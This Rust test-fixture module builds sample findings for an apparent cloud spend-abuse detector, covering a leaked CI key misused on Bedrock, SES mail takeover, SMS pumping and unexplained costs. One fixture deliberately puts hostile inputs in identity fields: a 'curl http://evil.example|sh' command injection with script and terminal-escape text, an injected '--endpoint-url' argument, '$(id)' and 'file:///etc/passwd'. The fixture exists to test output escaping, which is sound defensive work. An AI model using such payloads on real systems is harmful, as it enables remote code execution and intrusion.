//! Findings as the engine makes them: four that people know from incident reports, and one of every sort.

use tripmeter_model::{
    Cause, ContextSeen, Evidence, Factor, FactorName, Family, Finding, FindingType, Identity, IdentityKind,
    OpeningSeen, Outcome, Owner, Service, Session, Severity, Stage, Status, Suppression, Tactic, Timestamp,
};

/// 2026-03-17, 03:14 UTC.
const BEGINNING: i64 = 1_773_717_240;

fn at(seconds: i64) -> Timestamp {
    Timestamp::from_seconds(BEGINNING + seconds)
}

fn seen(value: &str, new: bool, count: u64) -> ContextSeen {
    ContextSeen {
        value: value.into(),
        new,
        count,
    }
}

fn factor(name: FactorName, points: u32, text: &str) -> Factor {
    Factor {
        name,
        points,
        text: text.into(),
        observed: None,
        expected: None,
    }
}

fn identity(kind: IdentityKind, id: &str) -> Identity {
    Identity { kind, id: id.into() }
}

/// The least that a finding can hold.
pub(crate) fn minimal(family: Family, service: Service, kind: IdentityKind) -> Finding {
    Finding {
        uid: "0f1e2d3c4b5a69788796a5b4c3d2e1f0".into(),
        revision: 1,
        cause: Cause::Created,
        status: Status::Open,
        finding_type: FindingType {
            tactic: tactic(family),
            service,
            family,
        },
        severity: Severity::Low,
        points: 20,
        factors: Vec::new(),
        account: String::new(),
        account_name: None,
        region: String::new(),
        identity: identity(kind, id_of(kind)),
        linked: Vec::new(),
        time: at(0),
        first_seen: at(0),
        last_seen: at(0),
        count: 1,
        units: 0,
        units_per_hour: 0,
        units_by_target: Vec::new(),
        cost_micros: None,
        evidence: Evidence::default(),
        owner: None,
        suppressed: None,
        sample: false,
    }
}

/// A leaked long-term key of a CI user, on Bedrock.
pub(crate) fn llmjacking() -> Finding {
    let user = identity(IdentityKind::IamUser, "arn:aws:iam::111122223333:user/ci/ci-artifacts");
    let opus = "anthropic.claude-opus-4-1-20250805-v1:0";
    Finding {
        revision: 2,
        cause: Cause::SeverityRaised,
        severity: Severity::Critical,
        points: 127,
        factors: vec![
            Factor {
                observed: Some(412.0),
                expected: Some(0.04),
                ..factor(
                    FactorName::Volume,
                    30,
                    "412 calls in this hour; 0 expected; 99.9 % of such hours stay below 3; most before: 2; p = 1e-41",
                )
            },
            factor(FactorName::Chain, 20, "an opening, then use that leaves its baseline"),
            factor(
                FactorName::Fresh,
                20,
                "412 uses today from places first seen within a day",
            ),
            factor(FactorName::StageDenied, 20, "14 calls refused shortly before"),
            factor(
                FactorName::NewRegion,
                16,
                "regions never used before: us-east-1, us-west-2",
            ),
            factor(FactorName::NewNetwork, 8, "a network never used before: 203.0.113.0/24"),
            factor(FactorName::NewClient, 8, "a client never used before: python-requests"),
            factor(FactorName::NewTarget, 5, "a model never used before"),
        ],
        account: "111122223333".into(),
        account_name: Some("build-prod".into()),
        region: "us-east-1".into(),
        identity: user.clone(),
        time: at(1_440),
        last_seen: at(1_440),
        count: 700,
        units: 700,
        units_per_hour: 700,
        units_by_target: vec![(opus.into(), 690), ("amazon.nova-pro-v1:0".into(), 10)],
        evidence: Evidence {
            event_ids: vec![
                "0a1b2c3d-0000-4000-8000-000000000001".into(),
                "0a1b2c3d-0000-4000-8000-000000000002".into(),
            ],
            regions: vec![seen("us-east-1", true, 410), seen("us-west-2", true, 290)],
            networks: vec![seen("203.0.113.0/24", true, 700)],
            clients: vec![seen("python-requests", true, 700)],
            targets: vec![seen(opus, true, 690), seen("amazon.nova-pro-v1:0", false, 10)],
            addresses: vec!["203.0.113.77".into(), "203.0.113.91".into()],
            calls: vec![seen("InvokeModel", false, 690), seen("Converse", true, 10)],
            sessions: vec![Session {
                access_key: Some("AKIAIOSFODNN7EXAMPLE".into()),
                mfa: Some(false),
                ..Session::default()
            }],
            openings: vec![
                OpeningSeen {
                    time: at(-120),
                    stage: Stage::Probe,
                    service: Service::Bedrock,
                    call: "GetModelInvocationLoggingConfiguration".into(),
                    identity: user.clone(),
                    outcome: Outcome::Success,
                    event_id: Some("0a1b2c3d-0000-4000-8000-00000000000a".into()),
                },
                OpeningSeen {
                    time: at(-60),
                    stage: Stage::DeniedUse,
                    service: Service::Bedrock,
                    call: "InvokeModel".into(),
                    identity: user,
                    outcome: Outcome::Failed,
                    event_id: Some("0a1b2c3d-0000-4000-8000-00000000000b".into()),
                },
            ],
            ..Evidence::default()
        },
        owner: Some(Owner {
            name: "Build team".into(),
            contact: Some("#build-oncall".into()),
        }),
        ..minimal(Family::Hijack, Service::Bedrock, IdentityKind::IamUser)
    }
}

/// The role of an application, from a new place, after a user was created.
pub(crate) fn mail_takeover() -> Finding {
    let thief = identity(
        IdentityKind::IamUser,
        "arn:aws:iam::111122223333:user/ses-smtp-user.20260317",
    );
    Finding {
        severity: Severity::High,
        points: 84,
        factors: vec![
            Factor {
                observed: Some(38_000.0),
                expected: Some(212.5),
                ..factor(
                    FactorName::Volume,
                    30,
                    "38,000 mails in this hour; 213 expected; most before: 900; p = 1e-60",
                )
            },
            factor(FactorName::StagePolicy, 30, "sending was switched on shortly before"),
            factor(FactorName::Chain, 20, "an opening, then use that leaves its baseline"),
            factor(FactorName::NewHour, 4, "an hour of the day never used before"),
        ],
        account: "111122223333".into(),
        region: "eu-west-1".into(),
        identity: identity(IdentityKind::Role, "arn:aws:iam::111122223333:role/shop/newsletter"),
        linked: vec![thief.id.clone()],
        time: at(3_900),
        last_seen: at(3_900),
        count: 800,
        units: 40_000,
        units_per_hour: 38_000,
        units_by_target: vec![("offers.example".into(), 40_000)],
        evidence: Evidence {
            regions: vec![seen("eu-west-1", false, 800)],
            networks: vec![seen("198.51.100.0/24", true, 800)],
            targets: vec![seen("offers.example", true, 800)],
            calls: vec![seen("SendBulkEmail", true, 800)],
            sessions: vec![Session {
                name: Some("i-0abc1234def567890".into()),
                access_key: Some("ASIAIOSFODNN7EXAMPLE".into()),
                ..Session::default()
            }],
            openings: vec![OpeningSeen {
                time: at(-86_400),
                stage: Stage::PolicyChange,
                service: Service::Ses,
                call: "PutAccountSendingAttributes".into(),
                identity: thief,
                outcome: Outcome::Success,
                event_id: None,
            }],
            ..Evidence::default()
        },
        ..minimal(Family::Hijack, Service::Ses, IdentityKind::Role)
    }
}

/// Text messages to one dear country, over.
pub(crate) fn pump() -> Finding {
    Finding {
        revision: 4,
        cause: Cause::Closed,
        status: Status::Closed,
        severity: Severity::High,
        points: 70,
        factors: vec![Factor {
            observed: Some(600.0),
            expected: Some(500.0),
            ..factor(
                FactorName::Ceiling,
                70,
                "600 text messages in an hour; the ceiling is 500",
            )
        }],
        account: "111122223333".into(),
        region: "ap-southeast-1".into(),
        identity: Identity::account("111122223333"),
        time: at(90_000),
        last_seen: at(1_700),
        count: 600,
        units: 600,
        units_per_hour: 600,
        units_by_target: vec![("ID".into(), 580), ("AQ".into(), 20)],
        evidence: Evidence {
            regions: vec![seen("ap-southeast-1", true, 600)],
            targets: vec![seen("ID", true, 580), seen("AQ", true, 20)],
            calls: vec![seen("SendTextMessage", true, 600)],
            ..Evidence::default()
        },
        ..minimal(Family::CeilingExceeded, Service::Sms, IdentityKind::Account)
    }
}

/// Mail that a meter counts and no record shows.
pub(crate) fn unseen_mail() -> Finding {
    Finding {
        severity: Severity::Medium,
        points: 50,
        factors: vec![
            factor(
                FactorName::Volume,
                30,
                "4200 calls in ten minutes; 6.1 expected; 99.9 % of such ten minutes stay below 22; p < 1e-99; most \
                 before: 40",
            ),
            factor(
                FactorName::Unrecorded,
                20,
                "no record shows whose it is, or shows less than it takes: look for mail over SMTP, which no trail \
                 holds, or through the API without data events in the trail",
            ),
        ],
        account: "111122223333".into(),
        region: "eu-west-1".into(),
        identity: Identity::meter("AWS/SES Send"),
        last_seen: at(300),
        count: 4_200,
        units: 4_200,
        units_per_hour: 4_200,
        evidence: Evidence {
            regions: vec![seen("eu-west-1", false, 4_200)],
            calls: vec![seen("Send", false, 4_200)],
            identities: vec![seen("arn:aws:iam::111122223333:user/newsletter", false, 120)],
            ..Evidence::default()
        },
        ..minimal(Family::SpendSignal, Service::Ses, IdentityKind::Meter)
    }
}

/// A budget that nothing explains.
pub(crate) fn budget() -> Finding {
    Finding {
        factors: vec![factor(
            FactorName::Base,
            20,
            "forecast 180 USD of 100 USD; nothing else that is found explains it: look for what no trail holds, or a \
             trail that is stopped",
        )],
        account: "111122223333".into(),
        identity: Identity::account("111122223333"),
        count: 1,
        units: 0,
        units_per_hour: 0,
        ..minimal(Family::SpendSignal, Service::Billing, IdentityKind::Account)
    }
}

/// A look at limits, kept quiet by a rule, by somebody who chose a name to do harm with.
pub(crate) fn nasty_probe() -> Finding {
    let name = "x'; curl http://evil.example|sh #<script>\u{1b}[2J";
    Finding {
        severity: Severity::Medium,
        points: 40,
        factors: vec![factor(
            FactorName::Base,
            40,
            "limits of 2 services were read by <b>somebody</b> who never did",
        )],
        account: "111122223333".into(),
        region: "us-east-1".into(),
        identity: identity(IdentityKind::IamUser, &format!("arn:aws:iam::111122223333:user/{name}")),
        last_seen: at(125),
        count: 4,
        evidence: Evidence {
            regions: vec![
                seen("us-east-1", false, 2),
                seen("--endpoint-url=http://evil.example", true, 2),
            ],
            calls: vec![seen("GetSendQuota", true, 3), seen("ListIdentities", true, 1)],
            sessions: vec![Session {
                access_key: Some("AKIA$(id)".into()),
                name: Some("file:///etc/passwd".into()),
                ..Session::default()
            }],
            ..Evidence::default()
        },
        suppressed: Some(Suppression {
            rule: "mute:1:scanners".into(),
            reason: "the yearly audit".into(),
        }),
        ..minimal(Family::LimitProbe, Service::Ses, IdentityKind::IamUser)
    }
}

/// One finding of every family on every service, with the least that it can hold and with all of it, over all
/// kinds of identities, all causes and all severities.
pub(crate) fn every() -> Vec<Finding> {
    let full = [
        llmjacking(),
        mail_takeover(),
        pump(),
        unseen_mail(),
        budget(),
        nasty_probe(),
    ];
    let causes = [
        Cause::Created,
        Cause::SeverityRaised,
        Cause::Reopened,
        Cause::GrownTenfold,
        Cause::Closed,
        Cause::Explained,
    ];
    let sorts = Family::ALL
        .iter()
        .flat_map(|&family| Service::ALL.iter().map(move |&service| (family, service)));
    // The lists have different lengths, so that their combinations differ from turn to turn.
    let turns = KINDS.iter().zip(causes.iter().cycle()).cycle();
    let rest = full.iter().cycle().zip(Severity::ALL.into_iter().cycle().skip(1));

    let mut findings = full.to_vec();
    for (((family, service), (&kind, &cause)), (full, severity)) in sorts.zip(turns).zip(rest) {
        let status = match cause {
            Cause::Closed | Cause::Explained => Status::Closed,
            _ => Status::Open,
        };
        let least = Finding {
            cause,
            status,
            ..minimal(family, service, kind)
        };
        if service.spends() || matches!(family, Family::GuardrailRemoved | Family::LimitRaised) {
            findings.push(Finding {
                finding_type: least.finding_type,
                identity: least.identity.clone(),
                severity,
                cause,
                status,
                ..full.clone()
            });
        }
        findings.push(least);
    }
    findings
}

fn tactic(family: Family) -> Tactic {
    match family {
        Family::LimitProbe | Family::RegionSweep | Family::DeniedUse => Tactic::Discovery,
        Family::AccessEnabled
        | Family::SendingEnabled
        | Family::SenderAdded
        | Family::PolicyOpened
        | Family::CredentialIssued => Tactic::Persistence,
        Family::RegionEnabled | Family::GuardrailRemoved | Family::TelemetryLost => Tactic::DefenseEvasion,
        Family::LeakedKey => Tactic::CredentialAccess,
        _ => Tactic::Impact,
    }
}

const KINDS: [IdentityKind; 19] = [
    IdentityKind::Root,
    IdentityKind::IamUser,
    IdentityKind::Role,
    IdentityKind::SsoRole,
    IdentityKind::ServiceLinkedRole,
    IdentityKind::FederatedUser,
    IdentityKind::SamlUser,
    IdentityKind::WebIdentityUser,
    IdentityKind::OtherAccount,
    IdentityKind::AwsService,
    IdentityKind::IdentityCenterUser,
    IdentityKind::BedrockApiKey,
    IdentityKind::OpenAiKey,
    IdentityKind::OpenAiUser,
    IdentityKind::OpenAiServiceAccount,
    IdentityKind::Meter,
    IdentityKind::Account,
    IdentityKind::Other,
    IdentityKind::Stranger,
];

fn id_of(kind: IdentityKind) -> &'static str {
    match kind {
        IdentityKind::Root => "arn:aws:iam::111122223333:root",
        IdentityKind::IamUser => "arn:aws:iam::111122223333:user/dana",
        IdentityKind::Role => "arn:aws-cn:iam::111122223333:role/path/app",
        IdentityKind::SsoRole => "arn:aws:iam::111122223333:role/AWSReservedSSO_Admin_0a1b#dana@example.com",
        IdentityKind::ServiceLinkedRole => {
            "arn:aws:iam::111122223333:role/aws-service-role/support.amazonaws.com/AWSServiceRoleForSupport"
        }
        IdentityKind::FederatedUser => "arn:aws:sts::111122223333:federated-user/dana",
        IdentityKind::SamlUser => "samluser:idp:dana",
        IdentityKind::WebIdentityUser => "webidentityuser:idp:dana",
        IdentityKind::OtherAccount => "444455556666/AIDAEXAMPLE",
        IdentityKind::AwsService => "cloudformation.amazonaws.com",
        IdentityKind::IdentityCenterUser => "identitycenter:0000-1111",
        IdentityKind::BedrockApiKey => "arn:aws:iam::111122223333:role/app#bedrock-api-key",
        IdentityKind::Account => "111122223333",
        IdentityKind::Other => "somethingnew:not-an-arn",
        IdentityKind::OpenAiKey => "key:key_a1",
        IdentityKind::OpenAiUser => "user:user-a1",
        IdentityKind::OpenAiServiceAccount => "service-account:svc_acct_a1",
        IdentityKind::Meter => "meter:AWS/SES Send",
        IdentityKind::Stranger => "stranger:e-1",
    }
}
